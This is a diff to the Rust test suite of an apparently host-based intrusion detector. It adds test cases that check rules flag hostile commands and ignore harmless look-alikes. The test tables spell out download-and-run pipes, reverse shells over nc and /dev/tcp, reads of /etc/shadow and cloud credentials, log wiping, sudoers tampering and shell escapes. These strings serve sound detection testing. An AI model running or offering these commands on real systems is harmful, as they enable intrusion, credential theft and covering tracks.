@@ -18,7 +18,7 @@ fn exec(path: &str, arguments: &[&str]) -> Record {
 fn fires(rules: &mut Rules, record: &Record) -> Vec<String> {
     let table = Table::default();
     let facts = Facts::new(record, ANN, &table, [0; 4]);
-    rules.ask(&facts).iter().map(|fired| fired.rule.id.clone()).collect()
+    rules.ask(&facts, record.time).iter().map(|fired| fired.rule.id.clone()).collect()
 }
 
 const RULES: &str = r#"
@@ -55,7 +55,7 @@ fn the_same_again_is_counted_and_not_told() {
     record.time += QUIET;
     let table = Table::default();
     let facts = Facts::new(&record, ANN, &table, [0; 4]);
-    let again: Vec<u64> = rules.ask(&facts).iter().map(|fired| fired.repeated).collect();
+    let again: Vec<u64> = rules.ask(&facts, record.time).iter().map(|fired| fired.repeated).collect();
 
     assert_eq!(again, [1]);
 }
@@ -116,6 +116,21 @@ $D/e -c "import subprocess,socket;subprocess.run(['rm','$D/e']);s=socket.socket(
     ),
     ("web-command", "cp $(readlink -f /bin/sh) $D/nginx; $D/nginx -c '/bin/cat /etc/hostname; true'"),
     ("web-command", "cp $(readlink -f /bin/sh) $D/apache2; $D/apache2 -c 'perl -e 1; true'"),
+    ("download-pipe-shell", "noop curl; $D/curl | cat | sh"),
+    ("download-pipe-shell", "noop wget; $D/wget | cat | cat | python3 -"),
+    ("download-pipe-shell-text", "bash -c 'source <(curl http://127.0.0.1:9/x)'"),
+    ("download-pipe-shell-text", "noop curl; x=$($D/curl); bash -c '#!/bin/sh\ntrue'"),
+    ("download-execute-tmp", "noop curl; cp /bin/true $D/got; $D/curl; $D/got"),
+    ("download-execute-tmp", "noop wget; echo true > $D/y; $D/wget; cd $D; sh y"),
+    (
+        "exec-shared-memory",
+        "F=vigie-test-$$; cd /dev/shm; printf '#!/bin/sh\n' > $F; chmod +x $F; ./$F; rm -f $F",
+    ),
+    ("exec-shared-memory", "F=vigie-test-$$; cd /dev/shm; echo true > $F; sh $F; rm -f $F"),
+    ("reverse-shell-pipe", "noop nc; mkfifo $D/f; sh < $D/f 2>&1 | $D/nc > $D/f"),
+    ("reverse-shell-pipe", "cp $(readlink -f /bin/sh) $D/ncat; $D/ncat -c 'sh -c true; true'"),
+    ("reverse-shell-socket", "bash -c 'exec 3<>/dev/tcp/127.0.0.1/'$PORT'; id >&3'"),
+    ("scan", "bash -c 'for p in $(seq 20100 20180); do (exec 3<>/dev/tcp/127.0.0.7/$p) 2>/dev/null; done'"),
 ];
 
 #[test]
@@ -207,6 +222,81 @@ const SPELLINGS: &[(&str, &str, &str)] = &[
     ("/usr/bin/bash", "bash /dev/shm/x.sh", "exec-shared-memory"),
 ];
 
+/// The same beyond what an option is called: other tools, other ways.
+const OTHER_WAYS: &[(&str, &[&str], &str)] = &[
+    ("/bin/bash", &["-c", "eval \"$(wget -qO- http://h/x)\""], "download-pipe-shell-text"),
+    ("/bin/bash", &["-c", "source <(curl -s http://h/x)"], "download-pipe-shell-text"),
+    ("/bin/bash", &["-c", ". <(curl -s http://h/x)"], "download-pipe-shell-text"),
+    ("/bin/sh", &["-c", "sh -c \"$(curl -fsSL http://h/x)\""], "download-pipe-shell-text"),
+    ("/bin/sh", &["-c", "curl -s http://h/x | sudo -E bash -"], "download-pipe-shell-text"),
+    (
+        "/usr/bin/python3.11",
+        &["-c", "import urllib.request as u;exec(u.urlopen('http://h').read())"],
+        "download-pipe-shell-text",
+    ),
+    ("/usr/bin/php8.2", &["-r", "eval(file_get_contents('http://h/x'));"], "download-pipe-shell-text"),
+    ("/bin/sh", &["-c", "echo eA== | base64 -d | sh"], "decode-pipe-shell"),
+    ("/usr/bin/python3.11", &["-c", "import base64;exec(base64.b64decode('eA=='))"], "decode-pipe-shell"),
+    ("/usr/bin/perl", &["-MMIME::Base64", "-e", "eval decode_base64('eA==')"], "decode-pipe-shell"),
+    (
+        "/usr/bin/perl",
+        &["-MIO", "-e", "new IO::Socket::INET(1);system$_ while<>"],
+        "interpreter-socket-one-liner",
+    ),
+    (
+        "/usr/bin/php8.2",
+        &["-r", "$s=fsockopen('h',1);proc_open('sh',[],$p);"],
+        "interpreter-socket-one-liner",
+    ),
+    ("/usr/bin/gawk", &["BEGIN{s=\"/inet/tcp/0/h/1\";s|&getline}"], "dev-tcp"),
+    ("/bin/dash", &["x.sh"], "exec-shared-memory"),
+    ("/usr/lib64/ld-linux-x86-64.so.2", &["/tmp/x"], "loader"),
+    ("/usr/sbin/aa-teardown", &[], "log-off"),
+    ("/bin/systemctl", &["stop", "syslog.socket"], "log-off"),
+    ("/usr/sbin/apparmor_parser", &["-R", "/etc/apparmor.d/x"], "log-off"),
+    ("/bin/sed", &["-i", "/192.0.2.1/d", "/var/log/auth.log"], "log-wipe"),
+    ("/bin/mv", &["/var/log/wtmp", "/tmp/x"], "log-wipe"),
+    ("/bin/sh", &["-c", ": > /var/log/auth.log"], "log-wipe"),
+    ("/usr/bin/dmesg", &["-C"], "log-wipe"),
+    ("/usr/bin/utmpdump", &["-r", "x"], "log-wipe"),
+    ("/bin/mv", &["/root/.bash_history", "/tmp/x"], "history-off"),
+    ("/bin/bash", &["+o", "history"], "history-off"),
+    ("/usr/bin/touch", &["-r", "/bin/ls", "/opt/x/y"], "timestomp"),
+    ("/usr/bin/python3.11", &["-c", "print(open('/etc/shadow').read())"], "credentials-read"),
+    ("/usr/bin/rev", &["/etc/shadow"], "credentials-read"),
+    ("/bin/tar", &["cf", "x", "-C", "/etc", "shadow"], "credentials-read"),
+    ("/usr/bin/getent", &["shadow"], "credentials-read"),
+    ("/usr/bin/curl", &["file:///etc/shadow"], "credentials-read"),
+    ("/usr/bin/cat", &["/home/a/.aws/credentials"], "credentials-read"),
+    ("/usr/bin/python3.11", &["-c", "open('/proc/1/environ')"], "environment-read"),
+    ("/usr/bin/curl", &["http://2852039166/latest/"], "cloud-metadata-tool"),
+    ("/opt/x", &["-a", "rx/0", "-o", "h:443"], "miner"),
+    ("/bin/bash", &["/root/linpeas.sh"], "scanner"),
+    ("/usr/bin/socat", &["tcp-l:80,fork", "tcp:h:80"], "tunnel"),
+    ("/usr/bin/curl", &["-T", "/etc/passwd", "http://h/"], "upload"),
+    ("/usr/bin/rclone", &["copy", "/srv", "x:"], "upload"),
+    ("/usr/bin/docker", &["run", "-v", "/etc:/x", "alpine"], "container-host-mount"),
+    ("/usr/bin/docker", &["run", "--device", "/dev/sda", "alpine"], "container-host-mount"),
+    ("/usr/bin/kubectl", &["run", "--overrides", "{\"hostPID\": true}"], "container-host-mount"),
+    ("/bin/sh", &["-c", "echo /x > /proc/sys/kernel/modprobe"], "release-agent"),
+    ("/usr/sbin/sysctl", &["-w", "kernel.core_pattern=|/tmp/x"], "release-agent"),
+    ("/bin/sed", &["-i", "s/1000/0/", "/etc/passwd"], "new-root-user"),
+    ("/bin/cp", &["/tmp/p", "/etc/passwd"], "new-root-user"),
+    ("/usr/bin/passwd", &["-d", "root"], "new-root-user"),
+    ("/usr/sbin/usermod", &["-g", "0", "x"], "admin-group"),
+    ("/bin/sh", &["-c", "echo 'x ALL=(ALL) ALL' >> /etc/sudoers"], "sudoers"),
+    ("/bin/chmod", &["777", "/etc/sudoers"], "sudoers"),
+    ("/bin/sed", &["-i", "1d", "/root/.ssh/authorized_keys"], "ssh-keys"),
+    ("/usr/bin/systemd-run", &["/tmp/x"], "unit-made"),
+    ("/bin/date", &["010100002030"], "clock-set"),
+    ("/usr/sbin/xtables-nft-multi", &["-P", "INPUT", "ACCEPT"], "firewall-off"),
+    ("/bin/tar", &["cf", "x", "x", "--checkpoint=1", "--checkpoint-action=exec=sh"], "shell-escape"),
+    ("/usr/bin/mawk", &["BEGIN {system(\"/bin/sh\")}"], "shell-escape"),
+    ("/usr/bin/apt-get", &["update", "-o", "APT::Update::Pre-Invoke::=/bin/sh"], "shell-escape"),
+    ("/bin/chroot", &["/proc/1/root"], "namespace-enter"),
+    ("/usr/bin/perl", &["-e", "chmod 04755, 'x'"], "setuid-made"),
+];
+
 /// What looks like them.
 const HARMLESS: &[(&str, &str)] = &[
     ("/bin/chmod", "chmod 0755 x"),
@@ -224,16 +314,119 @@ const HARMLESS: &[(&str, &str)] = &[
     ("/bin/busybox", "ls -la"),
     ("/usr/bin/journalctl", "journalctl --vacuum-time=10d"),
     ("/usr/bin/cat", "cat /proc/self/environ"),
+    ("/bin/date", "date -d yesterday"),
+    ("/bin/date", "date +%s"),
+    ("/bin/cp", "cp /etc/passwd /backup/passwd"),
+    ("/usr/bin/tar", "tar czf x.tgz /etc/nginx"),
+    ("/bin/bash", "bash /usr/local/bin/x.sh"),
+    ("/usr/bin/python3.11", "python3 -m json.tool"),
+    ("/usr/sbin/xtables-nft-multi", "iptables -A INPUT -j ACCEPT"),
+    ("/usr/bin/docker", "docker run -v /srv/x:/x alpine"),
+];
+
+/// What looks like other ways.
+const HARMLESS_TEXTS: &[(&str, &[&str])] = &[
+    ("/bin/sh", &["-c", "curl -s http://h/x | grep sha256"]),
+    ("/bin/sh", &["-c", "x=\"$(curl -s http://h/ip)\"; echo $x"]),
+    ("/bin/sh", &["-c", "curl -f http://localhost/ || exit 1"]),
+    ("/bin/bash", &["-c", "diff <(curl http://h/a) <(curl http://h/b)"]),
+    ("/bin/sh", &["-c", "export P=$(kubectl get secret x | base64 -d)"]),
+    ("/bin/sh", &["-c", "echo done >> /var/log/app.log"]),
+    ("/bin/sh", &["-c", "backup > /var/log/backup.log 2>&1"]),
+    ("/usr/bin/python3.11", &["-c", "import json,sys; print(json.load(sys.stdin))"]),
+    ("/usr/bin/awk", &["{ system(\"\") }"]),
 ];
 
 fn all_that_fire(path: &str, command: &str, change: impl FnOnce(&mut Run)) -> Vec<String> {
+    let all: Vec<&str> = command.split(' ').collect();
+    below(&[("/usr/lib/systemd/systemd", 0), ("/usr/sbin/sshd", 0), ("/bin/bash", 0)], path, &all, change)
+}
+
+/// What fires on an exec below these programs, of which the files belong to these users.
+fn below(
+    ancestors: &[(&str, u32)],
+    path: &str,
+    arguments: &[&str],
+    change: impl FnOnce(&mut Run),
+) -> Vec<String> {
     let mut rules = Rules::new(parse(BUILTIN).unwrap(), &[]);
-    let mut record = exec(path, &command.split(' ').collect::<Vec<_>>());
+    let mut table = Table::default();
+    let mut maker = Key::default();
+    for ((path, owner), pid) in ancestors.iter().zip(1..) {
+        let What::Exec(mut run) = exec(path, &[path]).what else { panic!("it is one") };
+        run.program.file.owner = *owner;
+        run.maker = maker;
+        maker = Key { pid, start: 1 };
+        table.exec(maker, ANN, 0, &run);
+    }
+    let mut record = exec(path, arguments);
     if let What::Exec(run) = &mut record.what {
         run.cwd = b"/etc".to_vec();
+        run.maker = maker;
         change(run);
     }
-    fires(&mut rules, &record)
+    let facts = Facts::new(&record, ANN, &table, [0; 4]);
+    rules.ask(&facts, 0).iter().map(|fired| fired.rule.id.clone()).collect()
+}
+
+#[test]
+fn other_ways_to_do_the_same_fire_and_what_looks_like_them_does_not() {
+    let fired = |path: &str, arguments: &[&str]| {
+        let all: Vec<&str> =
+            [path.rsplit('/').next().unwrap()].into_iter().chain(arguments.iter().copied()).collect();
+        let cwd = if arguments == ["x.sh"] { "/dev/shm" } else { "/root" };
+        let ancestors = [("/usr/lib/systemd/systemd", 0), ("/bin/bash", 0)];
+        below(&ancestors, path, &all, |run| run.cwd = cwd.into())
+    };
+    let silent: Vec<_> = OTHER_WAYS
+        .iter()
+        .filter(|(path, arguments, rule)| !fired(path, arguments).iter().any(|it| it == rule))
+        .collect();
+    let wrong: Vec<_> = HARMLESS_TEXTS
+        .iter()
+        .map(|(path, arguments)| (arguments, fired(path, arguments)))
+        .filter(|(_, fired)| !fired.is_empty())
+        .collect();
+
+    assert!(silent.is_empty(), "silent: {silent:#?}");
+    assert!(wrong.is_empty(), "wrong: {wrong:#?}");
+}
+
+/// A user can call his shell as he likes.
+#[test]
+fn nobody_is_excused_by_a_name_that_anybody_can_give() {
+    let fired = |path: &str, owner, uid| {
+        let all = ["auditctl", "-e", "0"];
+        !below(&[(path, owner)], "/sbin/auditctl", &all, |run| run.rights.uid = uid).is_empty()
+    };
+
+    assert!(!fired("/usr/bin/apt", 0, 33));
+    for path in ["/tmp/apt", "/dev/shm/x/apt", "memfd:apt"] {
+        assert!(fired(path, 0, 0), "{path}");
+    }
+    assert!(fired("/var/www/x/apt", 33, 33));
+    // systemd is an ancestor of everything: no rule may excuse for it.
+    for rule in parse(BUILTIN).unwrap() {
+        for (field, patterns) in rule.unless.iter().flatten() {
+            let is_one = |pattern: &Pattern| {
+                ["systemd", "init", "sshd"].iter().any(|it| pattern.fits_text(it.as_bytes()))
+            };
+            assert!(*field != Field::AncestorName || !patterns.iter().any(is_one), "{}", rule.id);
+        }
+    }
+}
+
+#[test]
+fn a_clock_that_is_set_back_keeps_no_alert_back() {
+    let mut rules = Rules::new(parse(RULES).unwrap(), &[]);
+    let mut record = exec("/tmp/x", &["x", "1", "2"]);
+    let table = Table::default();
+    let mut asked = |record: &Record, now| rules.ask(&Facts::new(record, ANN, &table, [0; 4]), now).len();
+
+    record.time = 10_000 * QUIET;
+    assert_eq!(asked(&record, 0), 1);
+    record.time = QUIET;
+    assert_eq!(asked(&record, QUIET), 1);
 }
 
 #[test]
